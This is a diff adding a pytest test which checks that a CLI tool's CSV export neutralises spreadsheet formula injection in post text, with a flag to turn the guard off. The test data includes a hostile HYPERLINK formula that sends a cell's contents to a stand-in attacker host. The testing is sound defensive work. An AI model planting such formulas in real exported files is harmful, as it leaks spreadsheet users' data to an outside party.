@@ -192,6 +192,35 @@ def test_cli_export_writes_jsonl_and_csv(tmp_path: Path, write_config: Callable[
     assert run("export", "--kind", "post").stdout.count("\n") == 1  # header only
 
 
+def test_cli_export_csv_keeps_spreadsheets_from_running_post_text(
+    tmp_path: Path, write_config: Callable[..., Path]
+) -> None:
+    import csv
+
+    write_config("http://127.0.0.1:9")
+    db = store.open_db(tmp_path / "touchpoint.db")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
+    texts = [hostile, "@acme hi", "+1 for this", "-1", "\tcmd", "fine = text"]
+    store.upsert_posts(
+        db, [post(str(i), text=t, author_handle="-dash") for i, t in enumerate(texts)]
+    )
+    db.conn.close()
+
+    def exported(*args: str) -> list[dict[str, str]]:
+        result = run("export", *args)
+        assert result.exit_code == 0, result.output
+        return list(csv.DictReader(result.stdout.splitlines(keepends=True)))
+
+    guarded = exported()
+    assert [r["text"] for r in guarded] == ["'" + t for t in texts[:-1]] + ["fine = text"]
+    assert {r["author_handle"] for r in guarded} == {"'-dash"}
+    assert {r["id"] for r in guarded} == {f"x:{i}" for i in range(len(texts))}
+    plain = exported("--no-formula-guard")
+    assert [r["text"] for r in plain] == texts and plain[0]["author_handle"] == "-dash"
+    lines = run("export", "--format", "jsonl").stdout.splitlines()
+    assert [json.loads(line)["text"] for line in lines] == texts  # JSON is never altered
+
+
 def test_cli_status_judges_each_streams_health(write_config: Callable[..., Path]) -> None:
     write_config("http://127.0.0.1:9")  # streams run every 300 s; at most 30 s of jitter
     now = utcnow()
